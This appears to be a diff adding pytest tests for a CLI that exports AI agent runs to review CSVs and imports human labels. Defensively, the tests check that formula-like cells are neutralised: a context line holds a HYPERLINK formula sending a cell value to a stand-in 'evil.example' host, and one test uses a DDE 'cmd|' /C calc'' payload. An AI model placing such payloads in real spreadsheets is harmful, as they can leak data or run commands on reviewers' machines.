@@ -336,3 +336,141 @@ def test_sample_csv_cells_that_look_like_formulas_are_written_as_text(workdir: P
         rows = {row["run_id"]: row for row in csv.DictReader(handle)}
     assert rows[run_id]["question"] == '\'=HYPERLINK("http://evil.example/"&B2,"open")'
     assert {row["sample_strategy"] for row in rows.values()} == {"all"}
+
+
+def _label_all(path: Path, label: str) -> list[dict[str, str]]:
+    """Fill every row's label of a sampled CSV with ``label`` (read and written as the csv module
+    does, so a cell's leading ``'`` stays as `stef review sample` wrote it)."""
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        row["label"] = label
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    return rows
+
+
+def _stored_reviews(warehouse: str) -> dict[str, tuple[str, str]]:
+    with connect(warehouse, read_only=True) as conn:
+        rows = conn.execute("SELECT run_id, reviewer, label FROM reviews").fetchall()
+    return {run_id: (reviewer, label) for run_id, reviewer, label in rows}
+
+
+def test_a_sample_holding_sql_longer_than_the_csv_default_field_limit_imports(workdir: Path) -> None:
+    """SQL may be 200,000 characters; Python's csv reads at most 131,072 per field by default."""
+    warehouse = str(workdir / "stef-demo.duckdb")
+    long_sql = "SELECT 1 -- " + "x" * 190_000
+    with connect(warehouse) as conn:
+        run_id = conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 1").fetchall()[0][0]
+        conn.execute("UPDATE agent_runs SET sql = ? WHERE run_id = ?", [long_sql, run_id])
+    review = workdir / "all.csv"
+    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
+    text = review.read_text(encoding="utf-8")
+    assert f",{long_sql}," in text  # as written: the test's own csv reader would refuse it
+    rows = text.count(",all,,,\n")
+    review.write_text(text.replace(",all,,,\n", ",all,incorrect,,\n"), encoding="utf-8")
+    result = invoke("review", "import", str(review), "--warehouse", warehouse, "--reviewer", "ana")
+    assert result.exit_code == 0, result.output
+    assert f"{rows} labelled rows: {rows} new, 0 replaced, 0 unchanged; 0 rows without a label" in result.stdout
+    stored = _stored_reviews(warehouse)
+    assert len(stored) == rows > 300 and stored[run_id] == ("ana", "incorrect")
+
+
+def test_run_ids_that_look_like_formulas_round_trip_from_sample_to_import(workdir: Path) -> None:
+    """`review sample` writes `'=…` for a cell starting `=` (and `''=…` for one starting `'=`);
+    `review import` takes exactly that one `'` off again, so every run id is found."""
+    warehouse = str(workdir / "stef-demo.duckdb")
+    renamed = ["=cmd|' /C calc'!A0-0", "'=already quoted", "-lead", "''+two quotes", "'plain quote"]
+    with connect(warehouse) as conn:
+        old_ids = [row[0] for row in conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 5").fetchall()]
+        for old, new in zip(old_ids, renamed, strict=True):
+            conn.execute("UPDATE agent_runs SET run_id = ? WHERE run_id = ?", [new, old])
+            conn.execute("UPDATE evaluations SET run_id = ? WHERE run_id = ?", [new, old])
+    review = workdir / "all.csv"
+    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
+    rows = _label_all(review, "correct")
+    written = {row["run_id"] for row in rows}
+    assert {"'=cmd|' /C calc'!A0-0", "''=already quoted", "'-lead", "'''+two quotes", "'plain quote"} <= written
+    result = invoke("review", "import", str(review), "--warehouse", warehouse, "--reviewer", "ana", "--skip-unknown")
+    assert result.exit_code == 0, result.output
+    assert f"{len(rows)} labelled rows: {len(rows)} new, 0 replaced, 0 unchanged" in result.stdout
+    assert "left out (--skip-unknown)" not in result.stdout
+    stored = _stored_reviews(warehouse)
+    assert len(stored) == len(rows)
+    assert {run_id: stored[run_id] for run_id in renamed} == dict.fromkeys(renamed, ("ana", "correct"))
+
+
+def test_a_csv_the_reader_cannot_parse_is_a_one_line_error_naming_the_line(
+    workdir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import stef.monitor.review
+
+    monkeypatch.setattr(stef.monitor.review, "CSV_FIELD_LIMIT", 20)
+    warehouse = str(workdir / "stef-demo.duckdb")
+    labels = workdir / "labels.csv"
+    labels.write_text("run_id,label,note\nr1,correct,short\nr2,correct,a note longer than twenty\n", encoding="utf-8")
+    result = invoke("review", "import", str(labels), "--warehouse", warehouse)
+    assert result.exit_code == 2 and "Traceback" not in result.output
+    assert " ".join(result.stderr.split()) == (
+        f"error: {labels}:3: not readable CSV (field larger than field limit (20))"
+    )
+    assert _stored_reviews(warehouse) == {}
+
+
+def test_a_malformed_label_studio_export_names_each_bad_task(workdir: Path) -> None:
+    warehouse = str(workdir / "stef-demo.duckdb")
+    run_ids = sorted(_truth(workdir))[:2]
+    export = workdir / "export.json"
+    tasks = [
+        {"data": "x", "annotations": "y"},
+        {"id": 5, "data": {"run_id": run_ids[0]}, "annotations": [{"result": [{"from_name": "label", "value": [1]}]}]},
+        {
+            "id": 6,
+            "data": {"run_id": run_ids[1]},
+            "annotations": [{"result": [{"from_name": "label", "value": {"choices": "correct"}}]}],
+        },
+    ]
+    export.write_text(json.dumps(tasks), encoding="utf-8")
+    result = invoke("review", "import", str(export), "--warehouse", warehouse)
+    assert result.exit_code == 2 and "Traceback" not in result.output
+    assert " ".join(result.stderr.split()) == (
+        f"error: {export}: 3 bad row(s), nothing imported: line 1: task 1: data is a string, not an object; "
+        "line 2: task id 5: annotations[0].result[0].value (label) is a list, not an object; "
+        "line 3: task id 6: annotations[0].result[0].value.choices (label) is a string, not a list of one text"
+    )
+    assert _stored_reviews(warehouse) == {}
+
+
+def test_sample_with_its_end_before_its_start_says_so(workdir: Path) -> None:
+    review = workdir / "never.csv"
+    result = invoke(
+        "review", "sample", "--warehouse", str(workdir / "stef-demo.duckdb"),
+        "--start", "2026-12-01", "--end", "2026-11-01", "--out", str(review),
+    )  # fmt: skip
+    assert result.exit_code == 2
+    assert result.stderr.strip() == "error: review sample end 2026-11-01 is before its start 2026-12-01"
+    assert not review.exists()
+
+
+def test_stats_show_a_kappa_of_zero_without_a_minus_sign(workdir: Path) -> None:
+    """Three answers STEF calls incorrect, two of them labelled correct: κ computes to -8e-17."""
+    warehouse = str(workdir / "stef-demo.duckdb")
+    with connect(warehouse, read_only=True) as conn:
+        low = [
+            row[0]
+            for row in conn.execute(
+                "SELECT run_id FROM evaluations WHERE score < 75 ORDER BY run_id LIMIT 3"
+            ).fetchall()
+        ]
+    labels = workdir / "labels.csv"
+    labels.write_text(f"run_id,label\n{low[0]},correct\n{low[1]},correct\n{low[2]},incorrect\n", encoding="utf-8")
+    assert invoke("review", "import", str(labels), "--warehouse", warehouse, "--reviewer", "ana").exit_code == 0
+    figures = json.loads(invoke("review", "stats", "--warehouse", warehouse, "--json").stdout)
+    assert figures["n"] == 3 and figures["accuracy"] == 0.3333
+    assert figures["kappa"] == 0.0 and str(figures["kappa"]) == "0.0"
+    table = invoke("review", "stats", "--warehouse", warehouse)
+    assert table.exit_code == 0, table.output
+    (line,) = [line for line in table.stdout.splitlines() if line.strip().startswith("all reviewed answers")]
+    assert "-0.0" not in table.stdout and " 0.000 [" in line
